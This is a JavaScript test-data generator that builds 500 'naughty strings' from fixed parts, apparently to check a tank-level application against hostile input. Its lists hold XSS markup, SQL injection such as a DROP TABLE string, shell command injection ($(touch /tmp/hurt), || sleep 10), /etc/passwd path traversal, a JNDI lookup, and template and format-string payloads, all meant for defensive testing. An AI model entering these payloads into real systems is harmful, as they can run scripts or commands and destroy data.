// Five hundred texts that have hurt somebody's program: markup, quotes, templates, control and
// direction characters, numbers that are none, and mixtures of them. Made here from their parts, the
// same each time.

const MARKUP = [
  "<script>window.hurt=1</script>",
  "<img src=x onerror=window.hurt=1>",
  "<svg onload=window.hurt=1>",
  "<svg><script>window.hurt=1</script></svg>",
  "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
  "<iframe src=javascript:window.hurt=1>",
  "<a href=javascript:window.hurt=1>tank</a>",
  "<body onload=window.hurt=1>",
  "<style>*{display:none}</style>",
  "<link rel=stylesheet href=http://example.org/x.css>",
  "<meta http-equiv=refresh content=0;url=http://example.org/>",
  "<base href=http://example.org/>",
  "<form action=http://example.org/><input name=password></form>",
  "<input autofocus onfocus=window.hurt=1>",
  "<details open ontoggle=window.hurt=1>",
  "<video><source onerror=window.hurt=1></video>",
  "<math><mtext><script>window.hurt=1</script></mtext></math>",
  "<object data=javascript:window.hurt=1></object>",
  "<template><script>window.hurt=1</script></template>",
  "<!--<script>window.hurt=1</script>-->",
  "<![CDATA[<script>window.hurt=1</script>]]>",
  "<marquee onstart=window.hurt=1>",
  "<h1>big</h1>",
  "&lt;script&gt;window.hurt=1&lt;/script&gt;",
  "&#60;script&#62;window.hurt=1&#60;/script&#62;",
  "%3Cscript%3Ewindow.hurt%3D1%3C%2Fscript%3E",
  "\\u003cscript\\u003ewindow.hurt=1\\u003c/script\\u003e",
];
const AROUND = [
  ["", ""],
  ['">', ""],
  ["'>", ""],
  ["</title>", ""],
  ["</script>", ""],
  ["-->", "<!--"],
  ["`", "`"],
  ["${", "}"],
  ["{{", "}}"],
  ["]]>", ""],
];
const WORDS = [
  "null", "undefined", "NaN", "Infinity", "-0", "1e999", "true", "__proto__", "constructor",
  "hasOwnProperty", "toString", "[object Object]", "../../etc/passwd", "C:\\con\\nul",
  "file:///etc/passwd", "javascript:window.hurt=1", "data:text/html,<script>window.hurt=1</script>",
  "'; DROP TABLE tank_levels; --", "\" OR 1=1 --", "$(touch /tmp/hurt)", "`touch /tmp/hurt`",
  "|| sleep 10", "%s%s%s%n", "{0}", "${jndi:ldap://example.org/x}", "{{7*7}}", "${7*7}", "#{7*7}",
  "=1+1", "@SUM(A1:A9)", "\\", "\\\\", "'", '"', "`", "´", "‘’“”", "«»", "−1", "½", "١٢٣", "Ⅷ", "２",
];
const LETTERS = [
  "水位", "タンク", "탱크", "خزان", "מיכל", "бак", "δεξαμενή", "ถังน้ำ", "टंकी", "Bäßlé", "İıŞş",
  "\u202egnp.knat", "\u2066left\u2069", "a\u200bb", "a\u00adb", "\ufeffbom", "e\u0301\u0302\u0303",
  "Z\u0351\u036b\u0343\u036a\u0302\u0348a\u0360l\u0321g\u0335o", "👍🏽", "👩‍👩‍👧‍👦", "🇮🇹🇪🇬", "𝒯𝒶𝓃𝓀", "\u{10ffff}",
  "\u00a0\u2003\u3000", "\u2028line\u2029paragraph", "\u0085", "\u007f", "ﷺ", "꧅", "𒐫",
];

export function naughtyStrings(count = 500) {
  const out = [];
  for (const text of [...WORDS, ...LETTERS]) out.push(text);
  for (const [before, after] of AROUND) for (const text of MARKUP) out.push(before + text + after);
  for (let i = 0; out.length < count; ++i) {
    const letters = LETTERS[i % LETTERS.length];
    const markup = MARKUP[(i * 7) % MARKUP.length];
    out.push(`${WORDS[(i * 5) % WORDS.length]} ${letters}${markup}`.repeat(1 + (i % 3)));
  }
  return out.slice(0, count);
}
